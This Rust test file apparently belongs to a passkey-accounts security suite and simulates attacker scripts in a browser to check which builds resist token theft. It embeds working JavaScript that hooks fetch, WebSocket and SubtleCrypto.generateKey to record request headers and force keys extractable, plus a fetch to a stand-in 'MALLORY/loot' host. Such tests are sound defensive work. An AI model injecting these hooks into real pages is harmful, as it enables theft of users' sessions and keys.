//! Scripts that put themselves in the place of what a page uses: `fetch`, `WebSocket`, the cryptography, the worker.

use passkey_accounts::defence::{Defence, without};
use passkey_accounts_tests::{
    chromium::{Chromium, Page},
    shop::{Build, Carried, Shop},
};
use serde_json::json;

use super::{
    Outcome, THEFT, acted, attack,
    mallory::{Mallory, Victim},
};

#[tokio::test]
async fn a_script_that_runs_first_listens_to_everything() {
    let browser = Chromium::launch().await.unwrap();
    attack("firstScript", async |build| {
        let shop = Shop::open(build).await;
        let page = browser.open("about:blank").await.unwrap();
        // As a content script of an extension does: before any script of the page.
        page.call("Page.addScriptToEvaluateOnNewDocument", json!({ "source": LISTEN })).await.unwrap();
        page.navigate(&shop.origin).await.unwrap();
        let victim = Victim::sign_up_in(page, &shop).await;
        uses_what_it_heard(&shop, &victim.page, &victim.name).await
    })
    .await;
}

#[tokio::test]
async fn an_injected_script_puts_itself_in_the_place_of_what_the_page_uses() {
    let browser = Chromium::launch().await.unwrap();
    attack("hooked", async |build| {
        let _down = without(Defence::ContentSecurityPolicy);
        let shop = Shop::open(build).await;
        let victim = Victim::sign_up(&browser, &shop).await;
        let mut mallory = Mallory::start("", &format!("{LISTEN}{AND_SAY_SO}")).await;
        let page = victim.follow(&browser, &shop, &mallory.comment()).await;
        mallory.loot().await;
        assert_eq!(page.evaluate("shop.act('look around')").await.unwrap(), 200);
        uses_what_it_heard(&shop, &page, &victim.name).await
    })
    .await;
}

/// Acts on the attacker's machine with what a script has heard: with the token, or with what a signed request carried.
async fn uses_what_it_heard(shop: &Shop, page: &Page, name: &str) -> Outcome {
    let heard = page.evaluate("heard").await.unwrap();
    let heard: Vec<(String, String)> = serde_json::from_value(heard).unwrap();
    assert!(!heard.is_empty(), "it listens");
    assert_eq!(page.evaluate("keys.length").await.unwrap(), 0, "no session key is made in the page");
    let said = heard.into_iter().filter(|(field, _)| !["content-type", "socket"].contains(&&**field));
    let mut stolen = shop.carrying(&Carried::Nothing, "/act", THEFT);
    for (field, value) in said {
        stolen = stolen.without(&field).and(&field, &value);
    }
    let answer = shop.send(&stolen).await;
    let stopped_by = match shop.build {
        Build::CookiePassword | Build::CookiePasskey => "no script sees the cookie".to_owned(),
        _ => answer.outcome(),
    };
    acted(shop, name, "it hears the token", stopped_by)
}

/// The page may go on.
const AND_SAY_SO: &str = "fetch('MALLORY/loot', { method: 'POST', mode: 'no-cors', body: 'null' });";

/// Hooks what a page sends, and every key that it makes.
const LISTEN: &str = "
    globalThis.heard = [];
    globalThis.keys = [];
    const realFetch = globalThis.fetch;
    globalThis.fetch = (address, init) => {
        heard.push(...new Headers(init?.headers ?? address.headers));
        return realFetch(address, init);
    };
    const RealSocket = globalThis.WebSocket;
    globalThis.WebSocket = class extends RealSocket {
        send(data) { heard.push(['socket', String(data)]); super.send(data) }
    };
    const real = SubtleCrypto.prototype.generateKey;
    SubtleCrypto.prototype.generateKey = async function (algorithm, extractable, uses) {
        const pair = await real.call(this, algorithm, true, uses);
        keys.push(pair);
        return pair;
    };
";
